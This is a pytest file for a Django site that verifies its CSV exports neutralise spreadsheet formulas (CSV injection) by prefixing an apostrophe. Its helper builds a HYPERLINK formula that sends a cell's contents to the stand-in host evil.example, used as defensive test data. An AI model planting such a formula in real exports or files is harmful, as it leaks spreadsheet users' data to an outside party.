"""Every CSV the site and the API write: a cell a spreadsheet would run as a formula is prefixed
with an apostrophe, so it is shown as the text it is (ASVS 4.0.3 V5.3.1; OWASP "CSV Injection").

The three writers: the search export, the API's ``?format=csv`` and a round's results.
"""

import csv
import io

import pytest
from django.urls import reverse

from tests import factories
from tests.questionnaires.factories import QuestionFactory, ReportedFigureFactory, RoundFactory

pytestmark = pytest.mark.django_db

# What spreadsheets take as the start of a formula (or, CR and tab, of a new cell), in ASCII and
# in the fullwidth forms some spreadsheets fold to ASCII.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]


def formula(start):
    return f'{start}HYPERLINK("http://evil.example/?leak="&A1)'


def read_csv(content):
    return list(csv.DictReader(io.StringIO(content.decode())))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_search_export_neutralises_a_formula_in_a_title(client, start):
    factories.PracticeFactory(title=formula(start), summary=formula(start))

    response = client.get(reverse("practices:practice_export"))

    [row] = read_csv(b"".join(response.streaming_content))
    assert row["title"] == "'" + formula(start)
    assert row["summary"] == "'" + formula(start)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_api_csv_neutralises_a_formula_in_a_title(client, start):
    factories.PracticeFactory(title=formula(start))

    response = client.get("/api/v1/practices/?format=csv")

    [row] = read_csv(response.content)
    assert row["title"] == "'" + formula(start)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_round_results_csv_neutralises_a_formula_in_a_statement(client, start):
    round = RoundFactory()
    ReportedFigureFactory(question=QuestionFactory(round=round), statement=formula(start))

    response = client.get(reverse("questionnaires:round_results_csv", args=[round.year]))

    statements = [row["statement"] for row in read_csv(response.content) if row["statement"]]
    assert statements == ["'" + formula(start)]


def test_numbers_stay_numbers_in_the_csvs(client):
    round = RoundFactory()
    ReportedFigureFactory(question=QuestionFactory(round=round), value=-5)
    factories.PracticeFactory(title="Plain title", start_year=2004)

    results = read_csv(
        client.get(reverse("questionnaires:round_results_csv", args=[round.year])).content
    )
    [api_row] = read_csv(client.get("/api/v1/practices/?format=csv").content)

    assert [row["percent"] for row in results if row["basis"] == "reported_in_source"] == ["-5"]
    assert (api_row["title"], api_row["start_year"]) == ("Plain title", "2004")
